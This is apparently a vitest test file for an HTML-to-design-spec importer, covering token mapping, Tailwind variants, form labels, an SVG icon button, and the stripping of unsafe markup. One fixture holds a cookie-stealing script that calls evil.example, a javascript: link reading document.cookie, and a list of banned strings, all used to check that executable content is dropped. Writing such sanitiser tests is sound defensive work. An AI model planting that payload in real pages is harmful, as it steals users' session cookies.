import { describe, expect, it } from 'vitest';
import { analyzeSpec } from '../quality/analyze-spec.js';
import { testTokens } from '../quality/testing/test-tokens.js';
import type { ElementNode } from '../spec/schema.js';
import { validateSpec } from '../spec/validate-spec.js';
import { importHtml } from './import-html.js';

const tokens = testTokens();
const child = (node: ElementNode, ...path: number[]): ElementNode =>
  path.reduce((n, i) => n.children![i] as ElementNode, node);

const CARD = `
<div class="pricing-card">
  <h3>Pro</h3>
  <p class="price">Price <strong>$19</strong> / month</p>
  <button class="cta" type="button">Choose plan</button>
</div>
<style>
  :root { --brand: #0B6477; }
  .pricing-card { padding: 24px; border-radius: 12px; background: #fff; border: 1px solid #e2e8f0;
    box-shadow: 0 4px 6px -1px rgba(15, 23, 42, 0.1); font-family: "Inter", system-ui, sans-serif; }
  .pricing-card h3 { font-size: 1.25rem; color: #0f172a; margin: 0 0 8px; }
  .price { color: var(--brand); font-size: 28px; font-weight: 700; letter-spacing: -0.01em; }
  .cta { background-color: var(--brand); color: white; padding: 8px 16px; border: none; border-radius: 8px; }
  .cta:hover { background-color: #084f5e; }
  .cta:focus-visible { outline: 2px solid #0ad1c8; outline-offset: 2px; }
  .pricing-card::before { content: ''; }
  .cta + .cta { margin-left: 4px; }
  @keyframes pulse { to { opacity: .5 } }
  @media (min-width: 768px) { .pricing-card { padding: 32px; } }
  @media (max-width: 400px) { .price { font-size: 24px; } }
</style>`;

describe('importHtml: a card with a <style> sheet', () => {
  const result = importHtml(CARD, tokens);
  const { root } = result.spec;

  it('produces a valid spec named after the root class', () => {
    expect(validateSpec(result.spec).ok).toBe(true);
    expect(result.spec.name).toBe('PricingCard');
    expect(root).toMatchObject({ tag: 'div', name: 'pricing-card' });
  });

  it('maps literal values to tokens, including var() and shorthands', () => {
    expect(root.style?.base).toEqual({
      padding: '{space.lg}',
      borderRadius: '{radius.lg}',
      backgroundColor: '{color.background}',
      borderWidth: '{border.width}',
      borderStyle: 'solid',
      borderColor: '{color.border}',
      boxShadow: '{shadow.md}',
      fontFamily: '{font.family.base}',
    });
    expect(root.style?.responsive).toEqual({ md: { padding: '{space.xl}' } });
    expect(result.mapped).toEqual(expect.arrayContaining([
      { value: '#0B6477', token: 'color.primary' },
      { value: '24px', token: 'space.lg' },
      { value: '(min-width: 768px)', token: 'breakpoint.md' },
    ]));
  });

  it('resolves descendant selectors against the pasted markup and keeps states', () => {
    expect(child(root, 0).style?.base).toEqual({ fontSize: '{font.size.xl}', color: '{color.text}', margin: '0 0 {space.sm}' });
    const cta = child(root, 2);
    expect(cta).toMatchObject({ tag: 'button', name: 'cta', attrs: { type: 'button' } });
    expect(cta.style?.hover).toEqual({ backgroundColor: '{color.primary-hover}' });
    expect(cta.style?.focusVisible).toEqual({ outlineWidth: '2px', outlineStyle: 'solid', outlineColor: '{color.focus}', outlineOffset: '2px' });
  });

  it('keeps unmatched literals as literals, which token compliance then lists', () => {
    expect(child(root, 1).style?.base).toEqual({ color: '{color.primary}', fontSize: '28px', fontWeight: '{font.weight.bold}', letterSpacing: '-0.01em' });
    const report = analyzeSpec(result.spec, tokens);
    expect(report.tokenCompliance.literals.map((l) => `${l.path}=${l.value}`)).toEqual([
      'root.children[1].style.base.fontSize=28px',
      'root.children[1].style.base.letterSpacing=-0.01em',
      'root.children[2].style.focusVisible.outlineWidth=2px',
      'root.children[2].style.focusVisible.outlineOffset=2px',
    ]);
    expect(report.tokenCompliance.literals[0]!.suggestion).toBe('{font.size.3xl}');
    expect(report.accessibility.issues.filter((i) => i.severity === 'error')).toEqual([]);
  });

  it('keeps text with inline elements and HTML whitespace', () => {
    expect(child(root, 1).children).toEqual([
      { kind: 'text', value: 'Price ' },
      { kind: 'element', tag: 'strong', children: [{ kind: 'text', value: '$19' }] },
      { kind: 'text', value: ' / month' },
    ]);
  });

  it('reports every CSS construct it could not carry', () => {
    expect(result.unsupported).toEqual(expect.arrayContaining([
      { construct: '.pricing-card::before', reason: expect.stringMatching(/pseudo-elements/) },
      { construct: '.cta + .cta', reason: expect.stringMatching(/sibling/) },
      { construct: '@keyframes pulse', reason: expect.stringMatching(/cannot be expressed/) },
      { construct: '@media (max-width: 400px)', reason: expect.stringMatching(/min-width/) },
    ]));
  });
});

const NAVBAR = `
<nav class="bg-white shadow-sm border-b border-slate-200" aria-label="Main">
  <div class="mx-auto max-w-7xl px-4 md:px-8 flex items-center justify-between h-16">
    <a href="/" class="text-xl font-bold text-primary">Anclora</a>
    <ul class="hidden md:flex gap-6 list-none text-gray-900">
      <li><a href="/docs" class="text-slate-600 hover:text-primary rounded-md px-2 py-1 focus-visible:ring-2 focus-visible:ring-focus">Docs</a></li>
      <li><a href="/pricing" class="text-rose-700 hover:text-primary p-[13px]">Pricing</a></li>
    </ul>
    <button class="rounded-lg bg-[#0b6477] px-4 py-2 text-sm font-semibold text-white hover:bg-primary-hover dark:bg-black md:hover:bg-red-500 space-x-2">Sign in</button>
  </div>
</nav>`;

describe('importHtml: a Tailwind navbar', () => {
  const result = importHtml(NAVBAR, tokens, { name: 'site navbar' });
  const { root } = result.spec;
  const [brand, list, signIn] = child(root, 0).children as ElementNode[];

  it('uses options.name and keeps the nav landmark and its label', () => {
    expect(result.spec.name).toBe('SiteNavbar');
    expect(root).toMatchObject({ tag: 'nav', name: 'site-navbar', a11y: { label: 'Main' } });
    expect(root.style?.base).toMatchObject({ backgroundColor: '{color.background}', boxShadow: '{shadow.sm}', borderColor: '{color.border}', borderBottomWidth: '1px' });
  });

  it('maps utilities, theme names and responsive variants to tokens and breakpoints', () => {
    expect(child(root, 0).style).toEqual({
      base: { marginInline: 'auto', maxWidth: '80rem', paddingInline: '{space.md}', display: 'flex', alignItems: 'center', justifyContent: 'space-between', height: '4rem' },
      responsive: { md: { paddingInline: '{space.xl}' } },
    });
    expect(brand!.style?.base).toEqual({ fontSize: '{font.size.xl}', fontWeight: '{font.weight.bold}', color: '{color.primary}' });
    expect(list!.style).toEqual({ base: { display: 'none', gap: '{space.lg}', listStyle: 'none', color: '{color.text}' }, responsive: { md: { display: 'flex' } } });
    // gray-900 (#101828) is within one just-noticeable difference of color.text (#0F172A).
    expect(result.mapped).toContainEqual({ value: '#101828', token: 'color.text' });
    expect(result.mapped).toEqual(expect.arrayContaining([{ value: 'text-primary', token: 'color.primary' }, { value: 'hover:bg-primary-hover', token: 'color.primary-hover' }]));
  });

  it('turns hover: and focus-visible: variants into states, composing rings into a box-shadow', () => {
    const docs = child(list!, 0, 0);
    expect(docs.style).toEqual({
      base: { color: '#45556c', borderRadius: '{radius.md}', paddingInline: '{space.sm}', paddingBlock: '{space.xs}' },
      hover: { color: '{color.primary}' },
      focusVisible: { boxShadow: '0 0 0 2px {color.focus}' },
    });
    expect(signIn!.style?.base).toMatchObject({ backgroundColor: '{color.primary}', color: '{color.on-primary}', fontSize: '{font.size.sm}' });
  });

  it('keeps arbitrary values as literals and reports variants it cannot express', () => {
    expect(child(list!, 1, 0).style?.base).toEqual({ color: '#c70036', padding: '13px' });
    expect(result.unsupported).toEqual(expect.arrayContaining([
      expect.objectContaining({ construct: 'dark:bg-black', reason: expect.stringMatching(/"dark:" variant/) }),
      expect.objectContaining({ construct: 'md:hover:bg-red-500', reason: expect.stringMatching(/stacked variants/) }),
      expect.objectContaining({ construct: 'space-x-2', reason: expect.stringMatching(/children/) }),
    ]));
    const literals = analyzeSpec(result.spec, tokens).tokenCompliance.literals.map((l) => l.value);
    expect(literals).toEqual(['#45556c', '2px', '#c70036', '13px']); // 2px: the ring width in the composed box-shadow
  });
});

describe('importHtml: a form with labels', () => {
  const result = importHtml(
    `<form class="contact-form" action="/send">
      <label for="email">Email</label>
      <input id="email" name="email" type="email" required placeholder="you@example.com">
      <label>Message <textarea name="message" rows="4"></textarea></label>
      <input type="tel" name="phone" placeholder="Phone" style="border: 1px solid #E2E8F0; padding: .5rem; color: var(--color-text)">
      <button class="submit">Send</button>
    </form>`,
    tokens,
  );
  const report = analyzeSpec(result.spec, tokens);

  it('keeps labels, ids, boolean and numeric attributes', () => {
    const { root } = result.spec;
    expect(root).toMatchObject({ tag: 'form', name: 'contact-form' });
    expect(result.spec.name).toBe('ContactForm');
    const fields = (root.children ?? []).filter((n): n is ElementNode => n.kind === 'element');
    expect(fields.map((f) => f.tag)).toEqual(['label', 'input', 'label', 'input', 'button']);
    expect(fields[1]!.attrs).toEqual({ id: 'email', name: 'email', type: 'email', required: true, placeholder: 'you@example.com' });
    expect(child(fields[2]!, 1)).toMatchObject({ tag: 'textarea', attrs: { name: 'message', rows: 4 } });
    expect(result.unsupported).toEqual([{ construct: 'action="/send"', path: 'root', reason: 'not an attribute the spec can hold' }]);
  });

  it('imports the style attribute through the same token mapping', () => {
    const phone = (result.spec.root.children ?? []).filter((n): n is ElementNode => n.kind === 'element')[3]!;
    expect(phone.style?.base).toEqual({ borderWidth: '{border.width}', borderStyle: 'solid', borderColor: '{color.border}', padding: '{space.sm}', color: '{color.text}' });
    expect(result.mapped).toContainEqual({ value: 'var(--color-text)', token: 'color.text' });
  });

  it('lets the quality lint find the unlabelled field and the untyped button', () => {
    expect(report.accessibility.issues.filter((i) => i.rule === 'form-label').map((i) => i.path)).toEqual(['root.children[6]']);
    expect(report.accessibility.issues.filter((i) => i.rule === 'button-type')).toHaveLength(1);
  });
});

describe('importHtml: a page fragment with script and handlers', () => {
  const source = `<!DOCTYPE html><html><head><title>Promo</title><link rel="stylesheet" href="/site.css">
    <style>body { color: #0f172a; margin: 0 }</style></head>
    <body>
      <h1>Spring sale</h1>
      <p onclick="track()">Up to <mark>40 %</mark> off<!-- tracking pixel --></p>
      <a href="javascript:alert(document.cookie)">Claim</a>
      <iframe src="https://ads.example.com"></iframe>
      <object data="/x.swf"></object>
      <script>fetch('https://evil.example/?c=' + document.cookie)</script>
    </body></html>`;
  const result = importHtml(source, tokens, { name: 'Promo' });
  const json = JSON.stringify(result.spec);

  it('carries none of the executable content into the spec', () => {
    expect(validateSpec(result.spec).ok).toBe(true);
    for (const banned of ['<script', 'fetch(', 'javascript', 'onclick', 'track()', 'cookie', 'iframe', 'swf']) expect(json).not.toContain(banned);
  });

  it('reports each construct it left out, with where it was', () => {
    expect(result.unsupported).toEqual(expect.arrayContaining([
      { construct: '<title>', reason: expect.any(String) },
      { construct: '<link>', reason: expect.stringMatching(/<style>/) },
      { construct: 'onclick="track()"', path: 'root.children[1]', reason: expect.stringMatching(/event handlers/) },
      { construct: '<mark>', path: 'root.children[1].children[1]', reason: expect.stringMatching(/content was kept/) },
      { construct: 'href="javascript:alert(document.cookie)"', path: 'root.children[2]', reason: 'javascript: URLs are never imported' },
      { construct: '<iframe>', path: 'root.children[3]', reason: expect.any(String) },
      { construct: '<object>', path: 'root.children[3]', reason: expect.any(String) },
      { construct: '<script>', path: 'root.children[3]', reason: expect.stringMatching(/scripts are never imported/) },
      { construct: '<!-- comment -->', reason: '1 HTML comment(s) are not kept in a spec' },
      { construct: 'body { margin }', path: 'body', reason: expect.stringMatching(/page-level/) },
    ]));
  });

  it('keeps the text, unwraps unknown elements and applies inherited page styles to the root', () => {
    const { root } = result.spec;
    expect(root).toMatchObject({ tag: 'div', name: 'promo', style: { base: { color: '{color.text}' } } });
    expect(child(root, 1).children).toEqual([{ kind: 'text', value: 'Up to 40 % off' }]);
    expect(child(root, 2)).toEqual({ kind: 'element', tag: 'a', children: [{ kind: 'text', value: 'Claim' }] });
  });
});

describe('importHtml: an icon button with inline SVG', () => {
  const result = importHtml(
    `<button type="button" aria-label="Close" class="p-2 rounded-full hover:bg-slate-100 focus-visible:outline-2 focus-visible:outline-focus">
      <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" class="w-5 h-5" aria-hidden="true">
        <title>Close</title><path stroke-linecap="round" d="M6 18L18 6M6 6l12 12"/>
      </svg>
    </button>`,
    tokens,
  );

  it('keeps the SVG attributes, the ARIA label and a complete focus outline', () => {
    const { root } = result.spec;
    expect(result.spec.name).toBe('Button');
    expect(root).toMatchObject({ tag: 'button', a11y: { label: 'Close' }, style: { focusVisible: { outlineStyle: 'solid', outlineWidth: '2px', outlineColor: '{color.focus}' } } });
    expect(child(root, 0)).toMatchObject({ tag: 'svg', a11y: { hidden: true }, attrs: { viewBox: '0 0 24 24', 'stroke-width': '2' }, style: { base: { width: '1.25rem', height: '1.25rem' } } });
    expect(child(root, 0, 0)).toEqual({ kind: 'element', tag: 'path', attrs: { 'stroke-linecap': 'round', d: 'M6 18L18 6M6 6l12 12' } });
    expect(result.unsupported).toEqual([{ construct: '<title>', path: 'root.children[0].children[0]', reason: 'this SVG element is not in the spec\'s element set' }]);
    expect(analyzeSpec(result.spec, tokens).accessibility.issues).toEqual([]);
  });
});
